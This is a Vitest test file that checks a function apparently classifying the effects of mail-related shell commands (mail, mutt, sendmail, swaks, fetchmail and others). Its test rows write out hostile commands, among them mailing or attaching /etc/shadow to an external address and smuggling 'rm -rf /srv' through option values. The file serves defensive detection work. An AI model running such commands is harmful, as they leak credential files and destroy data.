import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  [
    'mail -s hi bob@h.example < /etc/shadow',
    ['read:read /etc/shadow sensitive', 'network:send bob@h.example external sensitive'],
  ],
  ["mail --exec='!rm -rf /srv'", ['delete:remove /srv recursive force']],
  [
    'mail -A /etc/shadow bob@h.example',
    [
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
      'network:send bob@h.example external sensitive',
    ],
  ],
  ['mail', []],
  [
    'mutt -a /etc/shadow -- bob@h.example',
    [
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
      'network:send bob@h.example external sensitive',
    ],
  ],
  ['mutt -e \'set shell="rm -rf /srv"\'', ['delete:remove /srv recursive force']],
  ['mutt -F muttrc', ['read:read muttrc']],
  ['alpine -F /etc/shadow', ['read:read /etc/shadow sensitive']],
  ['sendmail -C /etc/shadow', ['read:read /etc/shadow sensitive']],
  ['sendmail -bd', ['network:listen :25']],
  ["sendmail -be '${run{rm -rf /srv}}'", ['delete:remove /srv recursive force']],
  ['sendmail -t < msg', ['read:read msg', 'network:send recipients of the message external']],
  [
    'swaks --to a@h.example --attach @/etc/shadow',
    [
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
      'network:send a@h.example external sensitive',
    ],
  ],
  ['mailq', []],
  ['postsuper -d ALL', ['delete:remove-remote queued mail ALL']],
  ["fetchmail -m 'rm -rf /srv'", ['delete:remove /srv recursive force']],
];

describe('mail', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
